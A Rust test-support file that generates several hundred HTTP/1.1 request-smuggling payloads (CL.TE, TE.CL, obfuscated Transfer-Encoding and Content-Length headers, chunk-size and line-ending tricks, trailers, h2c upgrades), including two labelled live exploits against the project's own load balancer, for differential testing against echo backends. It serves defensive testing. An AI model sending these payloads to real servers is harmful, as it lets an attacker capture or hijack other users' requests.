//! A corpus of HTTP/1.1 request-smuggling payloads for the differential test in
//! `tests/tests/smuggling.rs`, written here from the public categories of the attack
//! (defparam's smuggler, JeppW's smugchunks, PortSwigger's research, http-garden):
//! CL.TE, TE.CL and TE.TE header variants, chunk-size and chunk-extension tricks, bare
//! LF and bare CR at every line ending of the chunked framing and of the head,
//! trailers, `Content-Length` forms, `Expect: 100-continue` and `Upgrade: h2c`.
//!
//! Every request line targets `/echo…`, the path each echo backend numbers and echoes,
//! so whatever a backend parses out of a payload shows up in the test's oracle. The
//! request a payload tries to hide inside another one's body targets
//! `/echo/smuggled-…`; it asks for a 120-byte body, so a backend that takes it as a
//! request of its own waits and swallows whatever comes next on that connection: the
//! next user's request, through the balancer's connection pool.

/// One attack: the bytes a client writes to the balancer in one go.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Payload {
    /// `category/variant`, unique in the corpus.
    pub name: String,
    /// Everything the client writes, requests hidden or not.
    pub bytes: Vec<u8>,
}

impl Payload {
    /// The part of the name before the first `/`.
    pub fn category(&self) -> &str {
        self.name.split('/').next().unwrap_or(&self.name)
    }
}

/// A live exploit against the balancer: it took `0\r\n\n` for the last chunk followed
/// by trailers, while h11 ended the body there, so the smuggled request waited on the
/// pooled upstream connection and swallowed the next user's request as its body.
pub const LAST_CHUNK_BARE_LF_EXPLOIT: &[u8] = b"POST /echo HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nZ\r\n0\r\n\nPOST /echo/smuggled HTTP/1.1\r\nHost: a\r\nContent-Length: 120\r\n\r\n";

/// A live exploit against the balancer: a trailer line ending in a bare LF ended the
/// body for the balancer, while actix kept reading trailers up to the next blank line,
/// through the next request on the connection.
pub const BARE_LF_TRAILER_EXPLOIT: &[u8] =
    b"POST /echo HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nX: y\n\r\n";

/// The body of the smuggled request: long enough to swallow a whole next request.
const SMUGGLED_BODY: usize = 120;

/// `Transfer-Encoding` header lines (line endings included) that some parser, somewhere,
/// reads as chunked and another does not.
const TE_VARIANTS: &[(&str, &[u8])] = &[
    ("plain", b"Transfer-Encoding: chunked\r\n"),
    ("no-space", b"Transfer-Encoding:chunked\r\n"),
    ("space-before-colon", b"Transfer-Encoding : chunked\r\n"),
    ("tab-before-colon", b"Transfer-Encoding\t: chunked\r\n"),
    ("tab-before-value", b"Transfer-Encoding:\tchunked\r\n"),
    ("trailing-whitespace", b"Transfer-Encoding: chunked \t\r\n"),
    ("leading-space", b" Transfer-Encoding: chunked\r\n"),
    ("leading-tab", b"\tTransfer-Encoding: chunked\r\n"),
    ("obs-fold-value", b"Transfer-Encoding:\r\n chunked\r\n"),
    ("obs-fold-inside", b"Transfer-Encoding: chun\r\n ked\r\n"),
    ("xchunked", b"Transfer-Encoding: xchunked\r\n"),
    ("chunkedx", b"Transfer-Encoding: chunkedx\r\n"),
    (
        "chunked-identity",
        b"Transfer-Encoding: chunked, identity\r\n",
    ),
    (
        "identity-chunked",
        b"Transfer-Encoding: identity, chunked\r\n",
    ),
    ("gzip-chunked", b"Transfer-Encoding: gzip, chunked\r\n"),
    (
        "chunked-chunked",
        b"Transfer-Encoding: chunked, chunked\r\n",
    ),
    (
        "two-lines-chunked-first",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
    ),
    (
        "two-lines-chunked-last",
        b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n",
    ),
    (
        "two-lines-then-junk",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n",
    ),
    (
        "two-lines-then-empty",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding:\r\n",
    ),
    ("leading-comma", b"Transfer-Encoding: ,chunked\r\n"),
    ("trailing-comma", b"Transfer-Encoding: chunked,\r\n"),
    ("quoted", b"Transfer-Encoding: \"chunked\"\r\n"),
    ("with-parameter", b"Transfer-Encoding: chunked;q=1\r\n"),
    ("upper-case-value", b"Transfer-Encoding: CHUNKED\r\n"),
    ("upper-case-name", b"TRANSFER-ENCODING: chunked\r\n"),
    // U+212A KELVIN SIGN lower-cases to an ASCII `k` in some languages.
    (
        "kelvin-sign",
        "Transfer-Encoding: chun\u{212a}ed\r\n".as_bytes(),
    ),
    ("nul-after", b"Transfer-Encoding: chunked\x00\r\n"),
    ("nul-before", b"Transfer-Encoding: \x00chunked\r\n"),
    ("nul-in-name", b"Transfer-Encoding\x00: chunked\r\n"),
    ("vertical-tab-before", b"Transfer-Encoding: \x0bchunked\r\n"),
    ("vertical-tab-after", b"Transfer-Encoding: chunked\x0b\r\n"),
    ("form-feed-before", b"Transfer-Encoding: \x0cchunked\r\n"),
    ("non-ascii-after", b"Transfer-Encoding: chunked\xff\r\n"),
    ("lf-before-colon", b"Transfer-Encoding\n: chunked\r\n"),
    ("bare-lf-line", b"Transfer-Encoding: chunked\n"),
    ("bare-cr-before", b"X: y\rTransfer-Encoding: chunked\r\n"),
    ("bare-cr-after", b"Transfer-Encoding: chunked\rX: y\r\n"),
    ("underscore", b"Transfer_Encoding: chunked\r\n"),
];

/// Forms of a `Content-Length` header, `{n}` standing for the body's real length.
const CL_VARIANTS: &[(&str, &str)] = &[
    (
        "duplicate-identical",
        "Content-Length: {n}\r\nContent-Length: {n}\r\n",
    ),
    (
        "duplicate-zero-first",
        "Content-Length: 0\r\nContent-Length: {n}\r\n",
    ),
    (
        "duplicate-zero-last",
        "Content-Length: {n}\r\nContent-Length: 0\r\n",
    ),
    ("comma-identical", "Content-Length: {n}, {n}\r\n"),
    ("comma-zero", "Content-Length: {n}, 0\r\n"),
    ("plus", "Content-Length: +{n}\r\n"),
    ("minus", "Content-Length: -{n}\r\n"),
    ("leading-spaces", "Content-Length:   {n}\r\n"),
    ("trailing-spaces", "Content-Length: {n}  \r\n"),
    ("inner-space", "Content-Length: 0 {n}\r\n"),
    ("leading-zeros", "Content-Length: 000{n}\r\n"),
    ("hex", "Content-Length: 0x{x}\r\n"),
    ("overflow", "Content-Length: {overflow}\r\n"),
    ("empty", "Content-Length: \r\n"),
    ("nul-after", "Content-Length: {n}\0\r\n"),
    ("space-before-colon", "Content-Length : {n}\r\n"),
    ("obs-fold", "Content-Length:\r\n {n}\r\n"),
    ("underscore", "Content_Length: {n}\r\n"),
];

/// Chunk-size lines, `{x}` standing for the chunk's real size in lower-case hex.
const SIZE_VARIANTS: &[(&str, &str)] = &[
    ("plain", "{x}"),
    ("upper-case-hex", "{X}"),
    ("leading-zeros", "000{x}"),
    ("twenty-leading-zeros", "00000000000000000000{x}"),
    ("0x-prefix", "0x{x}"),
    ("plus", "+{x}"),
    ("minus", "-{x}"),
    ("space-before", " {x}"),
    ("tab-before", "\t{x}"),
    ("space-after", "{x} "),
    ("tab-after", "{x}\t"),
    ("space-then-extension", "{x} ;a=b"),
    ("junk-after", "{x}z"),
    ("underscore-inside", "0_{x}"),
    ("overflow-17-digits", "1{x016}"),
    ("overflow-to-zero", "10000000000000000"),
    ("empty", ""),
];

/// Chunk extensions after a correct size.
const EXTENSIONS: &[(&str, &[u8])] = &[
    ("token", b";name=value"),
    ("name-only", b";name"),
    ("several", b";a=1;b;c=\"3\""),
    ("quoted-string", b";name=\"quoted ; \\\" value\""),
    ("whitespace-around", b" ; name = value"),
    ("empty-name", b";"),
    ("bare-lf-inside", b";a\nb"),
    ("bare-cr-inside", b";a\rb"),
    ("nul-inside", b";a\x00b"),
    ("bare-lf-ends-it", b";a\n"),
];

/// Trailer sections (after the last chunk's line, up to and including the final line
/// ending), `{s}` standing for the payload's slug.
const TRAILERS: &[(&str, &[u8])] = &[
    ("valid", b"X-Trailer: 1\r\n\r\n"),
    ("two-valid", b"X-Trailer: 1\r\nX-Other: 2\r\n\r\n"),
    ("bare-lf-terminated", b"X: y\n\r\n"),
    ("bare-lf-everywhere", b"X: y\n\n"),
    ("bare-cr-terminated", b"X: y\r\r\n"),
    ("obs-folded", b"X: y\r\n z\r\n\r\n"),
    ("without-colon", b"nocolon\r\n\r\n"),
    ("space-before-colon", b"X : y\r\n\r\n"),
    ("nul-inside", b"X: y\x00z\r\n\r\n"),
    ("content-length", b"Content-Length: 120\r\n\r\n"),
    ("transfer-encoding", b"Transfer-Encoding: chunked\r\n\r\n"),
    (
        "request-line",
        b"POST /echo/smuggled-{s} HTTP/1.1\r\nHost: a\r\n\r\n",
    ),
];

/// A request line to `/echo/{slug}`, and the `Host` header.
fn start(method: &str, slug: &str) -> Vec<u8> {
    format!("{method} /echo/{slug} HTTP/1.1\r\nHost: a\r\n").into_bytes()
}

/// The request hidden in another one's body, waiting for a body of its own.
fn smuggled(slug: &str) -> Vec<u8> {
    format!(
        "POST /echo/smuggled-{slug} HTTP/1.1\r\nHost: a\r\nContent-Length: {SMUGGLED_BODY}\r\n\r\n"
    )
    .into_bytes()
}

/// A harmless request after the payload on the same connection.
fn next(slug: &str) -> Vec<u8> {
    format!("GET /echo/next-{slug} HTTP/1.1\r\nHost: a\r\n\r\n").into_bytes()
}

/// `bytes` padded with `A` to a length whose last hex digit is a letter, so a size
/// written in upper-case hex differs from the lower-case one.
fn pad_to_hex_letter(mut bytes: Vec<u8>) -> Vec<u8> {
    while bytes.len() % 16 < 10 {
        bytes.push(b'A');
    }
    bytes
}

fn fill(template: &str, n: usize) -> String {
    template
        .replace("{n}", &n.to_string())
        .replace("{x016}", &format!("{n:016x}"))
        .replace("{x}", &format!("{n:x}"))
        .replace("{X}", &format!("{n:X}"))
        .replace(
            "{overflow}",
            &(u128::from(u64::MAX) + 1 + n as u128).to_string(),
        )
}

struct Builder(Vec<Payload>);

impl Builder {
    fn add(&mut self, category: &str, variant: &str, parts: &[&[u8]]) {
        self.0.push(Payload {
            name: format!("{category}/{variant}"),
            bytes: parts.concat(),
        });
    }
}

/// The request path's last segment for a payload.
fn slug(category: &str, variant: &str) -> String {
    format!("{category}.{variant}")
}

/// Every payload, in a fixed order.
pub fn corpus() -> Vec<Payload> {
    let mut b = Builder(Vec::new());
    known_exploits(&mut b);
    for &(variant, te) in TE_VARIANTS {
        te_shapes(&mut b, variant, te);
    }
    chunk_sizes(&mut b);
    chunk_extensions(&mut b);
    chunked_line_endings(&mut b);
    trailers(&mut b);
    head_line_endings(&mut b);
    content_lengths(&mut b);
    head_oddities(&mut b);
    expect_continue(&mut b);
    upgrades(&mut b);
    b.0
}

fn known_exploits(b: &mut Builder) {
    b.add(
        "exploit",
        "last-chunk-bare-lf",
        &[LAST_CHUNK_BARE_LF_EXPLOIT],
    );
    b.add("exploit", "bare-lf-trailer", &[BARE_LF_TRAILER_EXPLOIT]);
    let slug = slug("exploit", "bare-lf-trailer-then-next");
    b.add(
        "exploit",
        "bare-lf-trailer-then-next",
        &[BARE_LF_TRAILER_EXPLOIT, &next(&slug)],
    );
}

/// One `Transfer-Encoding` variant in the three classic shapes.
fn te_shapes(b: &mut Builder, variant: &str, te: &[u8]) {
    // CL.TE: by its length the body hides a request; by its chunks it ends at once.
    let s = slug("cl.te", variant);
    let body = [&b"0\r\n\r\n"[..], &smuggled(&s)].concat();
    let cl = format!("Content-Length: {}\r\n", body.len());
    b.add(
        "cl.te",
        variant,
        &[&start("POST", &s), cl.as_bytes(), te, b"\r\n", &body],
    );

    // TE.CL: by its length the body is the chunk-size line; by its chunks it is the
    // hidden request.
    let s = slug("te.cl", variant);
    let hidden = smuggled(&s);
    let size_line = format!("{:x}\r\n", hidden.len());
    let cl = format!("Content-Length: {}\r\n", size_line.len());
    b.add(
        "te.cl",
        variant,
        &[
            &start("POST", &s),
            cl.as_bytes(),
            te,
            b"\r\n",
            size_line.as_bytes(),
            &hidden,
            b"\r\n0\r\n\r\n",
        ],
    );

    // TE alone, with a request after it: whoever ignores the header reads no body and
    // takes the chunks for the next request.
    let s = slug("te.only", variant);
    b.add(
        "te.only",
        variant,
        &[
            &start("POST", &s),
            te,
            b"\r\n",
            b"5\r\nhello\r\n0\r\n\r\n",
            &next(&s),
        ],
    );
}

/// Chunk sizes written so that a lax parser reads another number (often zero, which
/// ends the body before the hidden request).
fn chunk_sizes(b: &mut Builder) {
    for &(variant, template) in SIZE_VARIANTS {
        let s = slug("chunk-size", variant);
        let data = pad_to_hex_letter([&b"\r\n"[..], &smuggled(&s)].concat());
        let size = fill(template, data.len());
        b.add(
            "chunk-size",
            variant,
            &[
                &start("POST", &s),
                b"Transfer-Encoding: chunked\r\n\r\n",
                size.as_bytes(),
                b"\r\n",
                &data,
                b"\r\n0\r\n\r\n",
            ],
        );
    }
}

fn chunk_extensions(b: &mut Builder) {
    let huge = [&b";"[..], &[b'e'; 32 * 1024]].concat();
    let extensions = EXTENSIONS
        .iter()
        .map(|&(v, e)| (v, e))
        .chain([("huge", &huge[..])]);
    for (variant, extension) in extensions {
        let s = slug("chunk-ext", variant);
        b.add(
            "chunk-ext",
            variant,
            &[
                &start("POST", &s),
                b"Transfer-Encoding: chunked\r\n\r\n",
                b"5",
                extension,
                b"\r\nhello\r\n0\r\n\r\n",
                &next(&s),
            ],
        );
    }
}

/// A bare LF or a bare CR in place of each CRLF of the chunked framing, followed
/// either by a hidden request or by a harmless next one.
fn chunked_line_endings(b: &mut Builder) {
    for (eol_name, eol) in [("bare-lf", &b"\n"[..]), ("bare-cr", b"\r")] {
        let positions: [(&str, Vec<&[u8]>); 6] = [
            ("size-line", vec![b"1", eol, b"Z\r\n0\r\n\r\n"]),
            ("after-data", vec![b"1\r\nZ", eol, b"0\r\n\r\n"]),
            ("last-chunk", vec![b"1\r\nZ\r\n0", eol, b"\r\n"]),
            ("trailer-line", vec![b"1\r\nZ\r\n0\r\nX: y", eol, b"\r\n"]),
            ("final-line", vec![b"1\r\nZ\r\n0\r\n", eol]),
            ("last-chunk-and-final-line", vec![b"1\r\nZ\r\n0", eol, eol]),
        ];
        for (position, framing) in positions {
            for (then, follow) in [("then-smuggled", true), ("then-next", false)] {
                let variant = format!("{eol_name}-{position}-{then}");
                let s = slug("chunk-eol", &variant);
                let after = if follow { smuggled(&s) } else { next(&s) };
                let mut parts: Vec<&[u8]> = Vec::new();
                let head = start("POST", &s);
                parts.push(&head);
                parts.push(b"Transfer-Encoding: chunked\r\n\r\n");
                parts.extend(framing.iter().copied());
                parts.push(&after);
                b.add("chunk-eol", &variant, &parts);
            }
        }
    }
}

fn trailers(b: &mut Builder) {
    for &(variant, trailer) in TRAILERS {
        for (then, with_next) in [("alone", false), ("then-next", true)] {
            let variant = format!("{variant}-{then}");
            let s = slug("trailer", &variant);
            let trailer = String::from_utf8_lossy(trailer).replace("{s}", &s);
            let after = if with_next { next(&s) } else { Vec::new() };
            b.add(
                "trailer",
                &variant,
                &[
                    &start("POST", &s),
                    b"Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n",
                    trailer.as_bytes(),
                    &after,
                ],
            );
        }
    }
}

/// A bare LF or a bare CR in place of each CRLF of a head whose `Content-Length` body
/// is a hidden request.
fn head_line_endings(b: &mut Builder) {
    for (eol_name, eol) in [("bare-lf", "\n"), ("bare-cr", "\r")] {
        for position in [
            "request-line",
            "host-line",
            "length-line",
            "blank-line",
            "all",
        ] {
            let variant = format!("{eol_name}-{position}");
            let s = slug("head-eol", &variant);
            let body = smuggled(&s);
            let at = |p: &str| {
                if position == p || position == "all" {
                    eol
                } else {
                    "\r\n"
                }
            };
            let head = format!(
                "POST /echo/{s} HTTP/1.1{}Host: a{}Content-Length: {}{}{}",
                at("request-line"),
                at("host-line"),
                body.len(),
                at("length-line"),
                at("blank-line"),
            );
            b.add("head-eol", &variant, &[head.as_bytes(), &body]);
        }
    }
}

/// `Content-Length` forms over a body that is a hidden request: whoever reads the
/// length as zero takes the body for the next request.
fn content_lengths(b: &mut Builder) {
    for &(variant, template) in CL_VARIANTS {
        let s = slug("content-length", variant);
        let body = smuggled(&s);
        let header = fill(template, body.len());
        b.add(
            "content-length",
            variant,
            &[&start("POST", &s), header.as_bytes(), b"\r\n", &body],
        );
    }
    // A GET with a body: some servers read none, whatever its length says.
    let s = slug("content-length", "get-with-body");
    let body = smuggled(&s);
    let header = format!("Content-Length: {}\r\n\r\n", body.len());
    b.add(
        "content-length",
        "get-with-body",
        &[&start("GET", &s), header.as_bytes(), &body],
    );
}

/// Heads whose oddities are about neither framing header.
fn head_oddities(b: &mut Builder) {
    let cases: [(&str, &[u8]); 9] = [
        ("obs-fold", b"X-Folded: a\r\n b\r\n"),
        ("obs-fold-tab", b"X-Folded: a\r\n\tb\r\n"),
        ("obs-fold-first-line", b" X-Folded: a\r\n"),
        ("duplicate-host", b"Host: b\r\n"),
        ("header-without-colon", b"NoColon\r\n"),
        ("space-in-name", b"X Bad: a\r\n"),
        ("nul-in-value", b"X-Nul: a\x00b\r\n"),
        ("empty-name", b": a\r\n"),
        ("huge-header", b""),
    ];
    let huge = format!("X-Huge: {}\r\n", "h".repeat(70 * 1024));
    for (variant, extra) in cases {
        let s = slug("head", variant);
        let extra = if variant == "huge-header" {
            huge.as_bytes()
        } else {
            extra
        };
        let body = smuggled(&s);
        let cl = format!("Content-Length: {}\r\n\r\n", body.len());
        b.add(
            "head",
            variant,
            &[&start("POST", &s), extra, cl.as_bytes(), &body],
        );
    }
    let s = slug("head", "missing-host");
    let body = smuggled(&s);
    let missing_host = format!(
        "POST /echo/{s} HTTP/1.1\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    b.add("head", "missing-host", &[missing_host.as_bytes(), &body]);
    let s = slug("head", "http10-chunked");
    let http10 =
        format!("POST /echo/{s} HTTP/1.0\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n");
    b.add(
        "head",
        "http10-chunked",
        &[http10.as_bytes(), b"0\r\n\r\n", &smuggled(&s)],
    );
    let s = slug("head", "http10-keep-alive");
    let http10 = format!(
        "POST /echo/{s} HTTP/1.0\r\nHost: a\r\nConnection: keep-alive\r\nContent-Length: 5\r\n\r\nhello"
    );
    b.add("head", "http10-keep-alive", &[http10.as_bytes(), &next(&s)]);
}

fn expect_continue(b: &mut Builder) {
    let expect = &b"Expect: 100-continue\r\n"[..];
    let s = slug("expect", "content-length");
    b.add(
        "expect",
        "content-length",
        &[
            &start("POST", &s),
            expect,
            b"Content-Length: 5\r\n\r\nhello",
            &next(&s),
        ],
    );
    let s = slug("expect", "chunked");
    b.add(
        "expect",
        "chunked",
        &[
            &start("POST", &s),
            expect,
            b"Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
            &next(&s),
        ],
    );
    let s = slug("expect", "body-is-a-request");
    let body = smuggled(&s);
    let cl = format!("Content-Length: {}\r\n\r\n", body.len());
    b.add(
        "expect",
        "body-is-a-request",
        &[&start("POST", &s), expect, cl.as_bytes(), &body],
    );
    let s = slug("expect", "without-body");
    b.add(
        "expect",
        "without-body",
        &[&start("GET", &s), expect, b"\r\n", &next(&s)],
    );
    let s = slug("expect", "unknown-expectation");
    b.add(
        "expect",
        "unknown-expectation",
        &[
            &start("POST", &s),
            b"Expect: 100-continuex\r\nContent-Length: 5\r\n\r\nhello",
            &next(&s),
        ],
    );
}

fn upgrades(b: &mut Builder) {
    let h2c = &b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n"[..];
    let s = slug("upgrade", "h2c");
    b.add("upgrade", "h2c", &[&start("GET", &s), h2c, b"\r\n"]);
    let s = slug("upgrade", "h2c-then-next");
    b.add(
        "upgrade",
        "h2c-then-next",
        &[&start("GET", &s), h2c, b"\r\n", &next(&s)],
    );
    let s = slug("upgrade", "h2c-then-preface");
    b.add(
        "upgrade",
        "h2c-then-preface",
        &[
            &start("GET", &s),
            h2c,
            b"\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        ],
    );
    let s = slug("upgrade", "h2c-with-body");
    let body = smuggled(&s);
    let cl = format!("Content-Length: {}\r\n\r\n", body.len());
    b.add(
        "upgrade",
        "h2c-with-body",
        &[&start("POST", &s), h2c, cl.as_bytes(), &body],
    );
    let s = slug("upgrade", "websocket-without-key");
    b.add(
        "upgrade",
        "websocket-without-key",
        &[
            &start("GET", &s),
            b"Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
            &next(&s),
        ],
    );
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_corpus_has_a_few_hundred_payloads_with_unique_names() {
        let corpus = corpus();
        assert!((150..=300).contains(&corpus.len()), "{}", corpus.len());
        let mut names: Vec<&str> = corpus.iter().map(|p| p.name.as_str()).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), corpus.len(), "a name is used twice");
    }

    #[test]
    fn every_request_line_targets_an_echo_path() {
        // Only an echoed request shows in the oracle; a request to another path would
        // be a 404 that says nothing about where the backend saw it begin.
        for p in corpus() {
            for line in p.bytes.split(|b| *b == b'\n' || *b == b'\r') {
                let line = String::from_utf8_lossy(line);
                if line.ends_with(" HTTP/1.1") || line.ends_with(" HTTP/1.0") {
                    let target = line.split(' ').nth(1).unwrap_or("");
                    assert!(target.starts_with("/echo"), "{}: {line:?}", p.name);
                }
            }
        }
    }

    #[test]
    fn the_known_exploits_are_in_it_verbatim() {
        let corpus = corpus();
        for exploit in [LAST_CHUNK_BARE_LF_EXPLOIT, BARE_LF_TRAILER_EXPLOIT] {
            assert!(corpus.iter().any(|p| p.bytes == exploit));
        }
    }

    #[test]
    fn each_te_variant_hides_a_request_in_both_classic_shapes() {
        let corpus = corpus();
        for shape in ["cl.te", "te.cl"] {
            let hiding = corpus
                .iter()
                .filter(|p| p.category() == shape)
                .filter(|p| String::from_utf8_lossy(&p.bytes).contains("/echo/smuggled-"))
                .count();
            assert_eq!(hiding, TE_VARIANTS.len(), "{shape}");
        }
    }

    #[test]
    fn a_te_cl_length_covers_exactly_the_chunk_size_line() {
        let p = corpus()
            .into_iter()
            .find(|p| p.name == "te.cl/plain")
            .unwrap();
        let text = String::from_utf8(p.bytes).unwrap();
        let (head, body) = text.split_once("\r\n\r\n").unwrap();
        let length: usize = head
            .lines()
            .find_map(|l| l.strip_prefix("Content-Length: "))
            .unwrap()
            .parse()
            .unwrap();
        let (size, rest) = body.split_once("\r\n").unwrap();
        assert_eq!(length, size.len() + 2);
        let chunk = usize::from_str_radix(size, 16).unwrap();
        assert!(rest[..chunk].starts_with("POST /echo/smuggled-te.cl.plain "));
        assert_eq!(&rest[chunk..], "\r\n0\r\n\r\n");
    }
}
